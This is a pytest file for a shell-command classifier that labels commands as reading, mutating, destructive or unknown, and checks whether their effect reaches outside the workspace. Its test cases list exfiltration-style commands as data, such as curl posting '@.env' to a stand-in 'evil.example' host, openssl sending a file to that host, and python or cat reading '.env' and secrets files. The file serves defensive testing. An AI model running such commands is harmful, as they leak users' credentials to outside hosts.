"""One line for each thing a rule must know about its program."""

import pytest

from flyball.shell import judge
from flyball.shell.judgement import CommandKind
from flyball.shell.programs import PROGRAMS, lookup
from flyball.shell.rule import Rule
from flyball.shell.task import task_kind
from flyball.shell.words.place import Scope

READ, VERIFY, MUTATE = "read-only", "verification", "mutating"
DESTROY, UNKNOWN = "destructive", "unknown"


def check(command: str, kind: str, reason: str = "") -> None:
    answer = judge(command)
    assert answer.kind == kind, answer.reason
    assert any(reason in part.reason for part in answer.parts), answer.parts


@pytest.mark.parametrize(
    ("command", "effect"),
    [
        ("firebase deploy", "outside"),
        ("serverless2 deploy:prod", "outside"),
        ("semantic-release", "outside"),
        ("unheard-of --deploy x", "unclear"),
        ("psql -h db.example.com -c 'drop table a'", "outside"),
        ("psql 'host=db.example.com' -c 'drop table a'", "outside"),
        ("mongosh mongodb://me:x@db.example.com/a", "outside"),
        ("redis-cli -h 127.0.0.1 flushall", "unclear"),
        ("psql postgres://localhost/a -c 'drop table a'", "unclear"),
        ("psql -h db.example.com -c 'select 1'", "reading"),
        ("curl -X POST localhost:8000/a -d x=1", "writes"),
        ("curl --json '{}' http://127.0.0.1/a", "writes"),
        ("curl -s -XDELETE 'http://[::1]:80/a'", "writes"),
        ("curl localhost:8000/a", "reading"),
        ("curl -dx=1 localhost:8000/a", "writes"),
        ("curl -d localhost http://evil.example", "outside"),
        ("curl -d x localhost http://evil.example", "outside"),
        ("curl -d x localhost@evil.example", "outside"),
        ("curl -d x localhost.evil.example", "outside"),
        ("curl -L -d x localhost", "outside"),
        ("curl -x evil.example -d x localhost", "outside"),
        ("curl -d @.env localhost", "outside"),
        ("curl -d x localhost -o ../a", "outside"),
        ("eval 'git push'", "outside"),
        ("eval git push", "outside"),
        ('eval "$(x)"', "unclear"),
        ("yarn npm publish", "destroys"),
        ("yarn npm info", "reading"),
        ("hub release create v1", "outside"),
        ("git archive HEAD", "writes"),
        ("git archive --format=own HEAD", "writes"),
        ("git archive -o ../a.tar HEAD", "outside"),
        ("cp a.py /tmp/", "writes"),
        ("cp -t /tmp a.py", "writes"),
        ("mv a.py /tmp", "writes"),
        ("cp a.py /tmpx", "outside"),
        ("rm -r /tmp", "destroys"),
        ("nvm use 20", "writes"),
        ("go install ./...", "writes"),
        ("cd a && touch b && cd .. && rm a/b", "destroys"),
        ("cd a && cd .. && rm ../x", "destroys"),
    ],
)
def test_effect_of_what_may_reach_out(command: str, effect: str):
    assert judge(command).effect == effect


@pytest.mark.parametrize(
    "command",
    [
        "cat secrets.yaml",
        "cat t*.tfv*",
        "cat < prod.tfvars",
        "jq . a.tfvars.json",
        "git show HEAD:prod.tfvars",
        "cat .git/*",
        "git config --list",
        "git config get http.extraheader",
        "bundle config",
        "docker inspect web",
        "docker image inspect -f '{{json .Config}}' web",
        "aws lambda get-function-configuration --function-name x",
        "npm view x --registry http://localhost:x@evil.example",
        "npm ping --@scope:registry=http://evil.example",
        "pip list -o -ihttp://evil.example",
        "aws s3 ls --endpoint-url=http://evil.example",
        "kubectl get pods --server http://evil.example",
        "gh api user --hostname evil.example",
        "gh api https://evil.example/x",
        "helm search repo x --repo http://evil.example",
        "bazel query //...",
        "go list -export ./...",
        "cargo +other tree",
        "xmllint --noent a.xml",
        "xmllint -noent a.xml",
        "git log $(git describe --tags)",
        "git log $(git log -1 --format=%s)..HEAD",
        "git log $(git merge-base a b)$x",
        "git log $(git rev-parse --output=x)",
        "gh api graphql -f query='query { a } mutation B { x }'",
        "gh api graphql -f query=@x.graphql",
        "openssl s_client -connect evil.example:443 < README.md",
        "ssh-keygen -y -f x.pub",
        "gcc -dM -E a.c",
        "python3 -c 'print=exec; print(1)'",
        "python3 -c 'n=1; print(open(n).read())'",
        """python3 -c 'print(open(".env").read())'""",
        """python3 -c 'open("a", "w")'""",
    ],
)
def test_what_may_show_send_or_write_is_not_plain(command: str):
    assert judge(command, phase="recon").effect != "reading"


@pytest.mark.parametrize(
    "command",
    [
        "ls *.tfvars",
        "cat prod.tfvars.example",
        "cat *.yaml",
        "git config --get remote.origin.url",
        "docker inspect -f '{{.State.Status}}' web",
        "aws lambda list-functions --query 'Functions[].FunctionName'",
        "npm view x --registry http://localhost:4873",
        "go list ./...",
        "cargo tree",
        "xmllint --xpath //a a.xml",
        "git log --oneline $(git describe --tags --abbrev=0)..HEAD",
        'git log "$(git describe --tags --abbrev=0 2>/dev/null)..HEAD"',
        "git diff --shortstat $(git merge-base origin/main HEAD)",
        "base=$(git merge-base main HEAD); git diff $base",
        "git log origin/main..$(git branch --show-current)",
        "gh api graphql -f query='query { viewer { login } }'",
        "ssh-keygen -lf ~/.ssh/id_ed25519.pub",
        "gcc -dM -E - < /dev/null",
        "rustc --explain E0308",
        "aws logs tail /aws/lambda/x --since 1h",
        "gcloud logging read 'severity>=ERROR' --limit 10",
        "python3 -c 'x = 3; print(x * 4)'",
    ],
)
def test_reading_beside_what_may_hold_secrets(command: str):
    assert judge(command, phase="recon").effect == "reading"


@pytest.mark.parametrize(
    ("command", "kind", "reason"),
    [
        ("npx cat .env", READ, "secret"),
        ("node --env-file=.env a.js", UNKNOWN, "secret"),
        ("head < x$(cat b)", UNKNOWN, "only known when it runs"),
        ("while read f; do cat $f; done", UNKNOWN, "only known when it runs"),
        ("cat $(basename /x/a.py)", READ, "reads"),
        ("cat $(dirname a/b)", READ, "reads"),
        ("sort --$x f", UNKNOWN, "may become an option"),
        ("sort -n$x f", UNKNOWN, "may become an option"),
        ("sort -k$x -- $y.py", READ, "sorts"),
        ("sort --key=$x f", READ, "sorts"),
        ("sort -o - f", READ, "sorts"),
        ("sort -o", MUTATE, "a file"),
        ("sort -o /dev/null -o x f", MUTATE, "writes x"),
        ("uniq a", READ, "filters"),
        ("grep .env f", READ, "searches"),
        ("grep -e x .env", READ, "secret"),
        ("jq .env f", READ, "searches"),
        ("docker", UNKNOWN, "without a subcommand"),
        ("ls > {,}", UNKNOWN, "without a target"),
        ("shred a", DESTROY, "writes"),
        ("tee /dev/null", READ, "no file"),
        ("dig $x", UNKNOWN, "only known"),
        ("less +G f", READ, "shows"),
        ("less '+!x' f", UNKNOWN, "command"),
        ("file -C", MUTATE, "compiled"),
        ("date -I$x", READ, "shows"),
        ("rsync -n .env b", READ, "secret"),
        ("rsync -n $x b", DESTROY, "another machine"),
        ("rsync -n --exclude .env a b", READ, "would do"),
        ("rclone ls a:b", READ, "lists"),
        ("rclone copy a:b c", DESTROY, "copies"),
        ("mv a /dev/null", DESTROY, "throws"),
        ("mv a b", MUTATE, "writes"),
        ("mv", MUTATE, ""),
    ],
)
def test_options_and_operands(command, kind, reason):
    check(command, kind, reason)


@pytest.mark.parametrize(
    ("command", "kind", "reason"),
    [
        ("sed p f", READ, ""),
        ("sed '1,3{/a/!d;s/x/y/g}' f", READ, ""),
        ("sed '1!G;h;$!d' f", READ, ""),
        ("sed 'a\\\nhello' f", READ, ""),
        ("sed '1~2p; ' f", READ, ""),
        ("sed 's\\a\\b\\' f", UNKNOWN, "delimiter"),
        ("sed 's/a' f", UNKNOWN, "not understood"),
        ("sed s f", UNKNOWN, "not understood"),
        ("sed 's/a/b/e' f", UNKNOWN, "flag"),
        ("sed k f", UNKNOWN, "not understood"),
        ("sed -i p", MUTATE, "only known"),
        ("sed -n p .env", READ, "secret"),
        ("awk", UNKNOWN, "no program"),
        ("awk '{ print $1 / $2 }' f", READ, ""),
        ("awk '{ print (a + b) / c }' f", READ, ""),
        ("awk '(a) / 2 > 1' f", UNKNOWN, "not understood"),
        ("awk '/unfinished' f", UNKNOWN, "not understood"),
        ("awk '\"unfinished' f", UNKNOWN, "not understood"),
        ("awk '/a|b/ { n++ } # done' f", READ, ""),
        ("awk '{ print }' .env", READ, "secret"),
        ("awk --file=x f", UNKNOWN, "--file"),
        ("find . -exec ls", READ, ""),
        ("find . -newermt 2020-01-01 -fprintf x %p", MUTATE, ""),
        ("find . -fprint", MUTATE, "only known"),
        ("find . -frobnicate", UNKNOWN, "not a known test"),
    ],
)
def test_little_languages(command, kind, reason):
    check(command, kind, reason)


@pytest.mark.parametrize(
    ("command", "kind", "reason"),
    [
        ("nohup", UNKNOWN, "not known"),
        ("nice --frob ls", UNKNOWN, "not a known option"),
        ("timeout 5", UNKNOWN, "not known"),
        ("timeout --frob 5 ls", UNKNOWN, "not a known option"),
        ("env", READ, "environment"),
        ("env LC_ALL=C NAME=$x ls", READ, "lists"),
        ("env NAME=$x touch a", MUTATE, "NAME"),
        ("env PG_X=1 ls", MUTATE, "PG_X"),
        ("env -S ls", UNKNOWN, "-S"),
        ("exec", READ, "redirections"),
        ("xargs", READ, ""),
        ("xargs --frob ls", UNKNOWN, "not a known option"),
        ("xargs -I{} ls a{}", READ, ""),
        ("xargs -i touch {}", MUTATE, "only known"),
        ("sh -c ''", READ, "empty script"),
        ("sh -c $x", UNKNOWN, "only known"),
        ("sh --frob f", UNKNOWN, "not a known option"),
        ("sh /x/f.sh", UNKNOWN, "outside"),
        ("sh *.sh", UNKNOWN, "only known"),
        ("watch -n 1 ls", READ, ""),
        ("watch --frob ls", UNKNOWN, "not a known option"),
        ("watch", UNKNOWN, "not known"),
        ("parallel echo {} ::: a b", READ, ""),
        ("parallel --frob echo", UNKNOWN, "not a known option"),
        ("parallel", UNKNOWN, "not known"),
        ("npx -c ls", UNKNOWN, "not known"),
        ("npx --frob jest", UNKNOWN, "not a known option"),
        ("npx", UNKNOWN, "not known"),
        ("uv run --python 3.12 pytest", VERIFY, ""),
        ("uv run --python ./x pytest", UNKNOWN, "version"),
        ("uv run --project /x pytest", UNKNOWN, "not known"),
        ("uv run --with x pytest", MUTATE, ""),
        ("uv run script.py", MUTATE, "script.py"),
        ("docker exec web ls", READ, ""),
        ("docker exec web", UNKNOWN, "container"),
    ],
)
def test_wrappers_are_looked_through(command, kind, reason):
    check(command, kind, reason)


@pytest.mark.parametrize(
    ("command", "kind", "reason"),
    [
        ("cd ~/.ssh", READ, "secret"),
        ("cd - && git status", UNKNOWN, "elsewhere"),
        ("pushd a; popd", READ, ""),
        ("set -euo pipefail", READ, ""),
        ("set -- a", UNKNOWN, ""),
        ("shopt -s globstar", READ, ""),
        ("shopt -s extdebug", UNKNOWN, ""),
        ("read -r x", READ, ""),
        ("read PATH", UNKNOWN, ""),
        (". .venv/bin/activate", VERIFY, ""),
        (".", UNKNOWN, ""),
        ("git", READ, "help"),
        ("git -c color.ui=never -C . --no-pager log", READ, ""),
        ("git -c color.ui log", READ, ""),
        ("git config user.name x", MUTATE, ""),
        ("git config --global user.name x", DESTROY, "outside"),
        ("git symbolic-ref HEAD refs/x", MUTATE, ""),
        ("git checkout main", MUTATE, ""),
        ("git checkout src/a.py", DESTROY, "older"),
        ("git ls-remote https://a.example/b", READ, ""),
        ("git clone ext::sh", UNKNOWN, "plain address"),
        ("tar tf h:a.tar", UNKNOWN, "another machine"),
        ("tar czf a.tgz .env", READ, "secret"),
        ("tar xPf a.tar", MUTATE, "outside"),
        ("tar xOf a.tar f", READ, "prints"),
        ("rm src/*.o", DESTROY, "whatever matches"),
        ("rm -r ./build", MUTATE, ""),
        ("cp .env x", READ, "secret"),
        ("cp -t d a", MUTATE, ""),
        ("dd if=$x", UNKNOWN, "only known"),
        ("dd if=a bs=1", READ, ""),
        ("dd if=.env", READ, "secret"),
        ("chmod u+s f", DESTROY, "rights"),
        ("chmod --reference=a f", MUTATE, ""),
        ("pdftotext a.pdf -", READ, ""),
        ("pdftotext a.pdf", MUTATE, ""),
        ("service x start", DESTROY, ""),
        ("screen -ls", READ, ""),
        ("dpkg -i x", DESTROY, ""),
        ("crontab -l", READ, ""),
        ("gh api x -X GET -f a=b", READ, ""),
        ("gh api x -X POST", DESTROY, ""),
        ("kubectl get secret/x", READ, "secrets"),
        ("npm --prefix web run build", VERIFY, ""),
        ("npm run build --prefix /x", UNKNOWN, "out of the workspace"),
        ("npm run $x", UNKNOWN, "only known"),
        ("npm run", READ, "lists"),
        ("npm test -- -u", MUTATE, ""),
        ("npm version patch", MUTATE, ""),
        ("npm version", READ, ""),
        ("pip list --log x", MUTATE, ""),
        ("pnpm -v", READ, ""),
        ("bun test", VERIFY, ""),
        ("cargo +nightly test", VERIFY, ""),
        ("go build -ldflags '-extld=x' .", UNKNOWN, ""),
        ("make test CC=x", MUTATE, ""),
        ("make -C /x", UNKNOWN, "out of the workspace"),
        ("ninja -t clean", MUTATE, ""),
        ("gcc -fsyntax-only a.c", VERIFY, ""),
        ("gcc -E a.c -o b", MUTATE, ""),
        ("gcc -v", READ, ""),
        ("pytest /x", UNKNOWN, "outside"),
        ("pytest --ignore=/x", UNKNOWN, "outside"),
        ("wget -qO- https://a.example", READ, ""),
        ("nc -zv a 80", READ, "probes"),
        ("aws ec2 describe-instances", READ, ""),
        ("aws s3 rm x", UNKNOWN, ""),
        ("aws ssm get-parameter --name secret", UNKNOWN, "secret"),
    ],
)
def test_programs(command, kind, reason):
    check(command, kind, reason)


@pytest.mark.parametrize(
    ("command", "kind", "reason"),
    [
        ("python -V", READ, "version"),
        ("python --frob", UNKNOWN, "option"),
        ("python", UNKNOWN, "fed"),
        ("python -c", UNKNOWN, "only known"),
        ("python -c 'print('", UNKNOWN, "anything"),
        ("python -c 'import sys; print(sys.version.split()[0])'", READ, ""),
        ("python -Bc 'print(1)'", READ, ""),
        ("python -m", UNKNOWN, "module"),
        ("python -mpytest -x", VERIFY, ""),
        ("python -Im pytest", VERIFY, ""),
        ("python -W error -m pytest", VERIFY, ""),
        ("python -m zipfile -l a.zip", READ, ""),
        ("python -m json.tool a b", MUTATE, ""),
        ("python -m $x", UNKNOWN, "module"),
        ("python a.py", MUTATE, "a.py"),
        ("python manage.py test", VERIFY, ""),
        ("python manage.py showmigrations", VERIFY, ""),
        ("python manage.py migrate", MUTATE, ""),
        ("node -e 'console.log(process.version)'", READ, ""),
        ("node -e 'x()'", UNKNOWN, "anything"),
        ("node --check a.js", VERIFY, "syntax"),
        ("node", UNKNOWN, "fed"),
        ("lua a.lua", MUTATE, ""),
        ("ffmpeg -version", READ, ""),
        ("ffmpeg -i a b", UNKNOWN, ""),
        ("tmux ls", READ, ""),
        ("sqlite3 a.db 'select count(*) from x'", READ, ""),
        ("sqlite3 a.db $x", UNKNOWN, ""),
        ("sqlite3 a.db", UNKNOWN, ""),
        ("psql -l", READ, ""),
        ("psql -c '\\d'", READ, ""),
        ("psql", UNKNOWN, ""),
        ("redis-cli get a", READ, ""),
        ("redis-cli memory purge", UNKNOWN, ""),
        ("redis-cli", UNKNOWN, ""),
    ],
)
def test_interpreters_and_databases(command, kind, reason):
    check(command, kind, reason)


@pytest.mark.parametrize(
    ("command", "kind", "reason"),
    [
        ("git clean -n --no-dry-run", DESTROY, "deletes"),
        ("git clean -n --no-color", READ, "would do"),
        ("git branch --no-merged main", READ, "lists"),
        ("terraform fmt -check=true", READ, "would do"),
        ("terraform fmt -check=false", MUTATE, "formats"),
        ("git apply --stat --app x", MUTATE, "--app"),
        ("rsync -n --no-n a b", DESTROY, ""),
        ("black --check --no-check .", MUTATE, "rewrites"),
    ],
)
def test_an_option_that_only_looks_may_be_taken_back(command, kind, reason):
    check(command, kind, reason)


@pytest.mark.parametrize(
    ("command", "kind", "reason"),
    [
        ("kubectl auth can-i get pods --kubeconfig=k", UNKNOWN, "runs another program"),
        ("apt search -o A=b x", UNKNOWN, "runs another program"),
        ("cargo --config=x check", UNKNOWN, "runs another program"),
        ("7z x -oout a.7z", MUTATE, "writes out"),
        ("gcc -fsyntax-only -wrapper ./x a.c", UNKNOWN, "runs another program"),
        ("gcc -fsyntax-only -std=c11 a.c", VERIFY, "only checks"),
        ("gcc -v a.c", MUTATE, "compiles"),
        ("rustc --print target-list", READ, "settings"),
        ("clang-tidy -fix a.c", MUTATE, "-fix"),
        ("uniq [ab].txt", MUTATE, "may be two names"),
        ("ls *.c | xargs -n1 xxd", READ, "dumps"),
        ("find . -exec xxd {} +", MUTATE, "may be two names"),
        ("find . -name '*.c' -exec xxd {} ';'", READ, "dumps"),
        ("git merge-tree a b c", READ, "only looks"),
        ("git merge-tree --trivial-merge a b c", READ, "only looks"),
        ("git merge-tree a b", MUTATE, "objects"),
        ("git reflog -n 20 --date=relative", READ, "only looks"),
        ("git reflog --all expire", DESTROY, "lose"),
        ("make -j deploy", DESTROY, "deploy"),
        ("make -kj 4 test", VERIFY, "test"),
        ("npm run -- deploy", DESTROY, "deploy"),
        ("npm run", READ, "lists"),
        ("tar tfI x.tar ./evil.sh", UNKNOWN, "run another program"),
        ("tar tfb x.tar 20 a", READ, "lists"),
        ("coverage run -m pytest -q", VERIFY, "tests"),
        ("coverage run -m timeit x", MUTATE, "timeit"),
        ("coverage run a.py", MUTATE, "a.py"),
        ("tox exec -- ls", UNKNOWN, "any program"),
        ("buildifier -mode=check BUILD", VERIFY, "only checks"),
        ("buildifier -mode=check -lint=fix BUILD", MUTATE, "rewrites"),
        ("pytest -o addopts=", VERIFY, "tests"),
        ("pytest -o log_file=x", MUTATE, "name a file"),
        ("bash -n +n x.sh", UNKNOWN, "takes back"),
        ("find . -exec bash -n {} ';'", READ, "syntax"),
        ("python -m json.tool --indent 2 a.json", READ, "prints JSON"),
        ("python -m json.tool a.json b.json", MUTATE, "writes b.json"),
        ("python -X pycache_prefix=x -c 'print(1)'", UNKNOWN, "not understood"),
        ("perl -lane 'print $F[0], \"\\t\", $F[1]' f", READ, "only prints"),
        ("perl -ne 'print if /x/' 'x |'", UNKNOWN, "anything"),
    ],
)
def test_a_word_does_what_its_program_reads_in_it(command, kind, reason):
    check(command, kind, reason)


def rules(rule: Rule):
    yield rule
    for inner in rule.subcommands.values():
        yield from rules(inner)


def test_every_entry_is_well_formed():
    for name, top in PROGRAMS.items():
        assert name == name.strip()
        assert "~" not in name
        for rule in rules(top):
            for option in rule.writes | rule.mutates | rule.destroys | rule.runs | rule.places:
                assert option.startswith("-"), (name, option)


def test_programs_are_known_by_place():
    assert lookup("ls", Scope()).rule is lookup("/usr/bin/ls", Scope()).rule
    assert lookup("/tmp/ls", Scope()).floor is CommandKind.UNKNOWN
    assert lookup("./ls", Scope()).floor is CommandKind.MUTATING
    assert lookup("./ls", Scope()).rule is None
    assert lookup(".venv/bin/pytest", Scope()).floor is CommandKind.VERIFICATION
    assert lookup("./gradlew", Scope()).rule is PROGRAMS["gradlew"]
    assert lookup("frobnicate", Scope()).floor is CommandKind.UNKNOWN


@pytest.mark.parametrize(
    ("name", "kind", "proves"),
    [
        ("test", CommandKind.VERIFICATION, "tests"),
        ("test:unit", CommandKind.VERIFICATION, "tests"),
        ("unit-test", CommandKind.VERIFICATION, "tests"),
        ("type-check", CommandKind.VERIFICATION, "types"),
        ("lint", CommandKind.VERIFICATION, "lint"),
        ("build:prod", CommandKind.VERIFICATION, "build"),
        ("lint:fix", CommandKind.MUTATING, ""),
        ("start", CommandKind.MUTATING, ""),
        ("deploy", CommandKind.DESTRUCTIVE, ""),
        ("test-and-publish", CommandKind.DESTRUCTIVE, ""),
    ],
)
def test_names_of_tasks(name, kind, proves):
    assert task_kind(name) == (kind, proves)
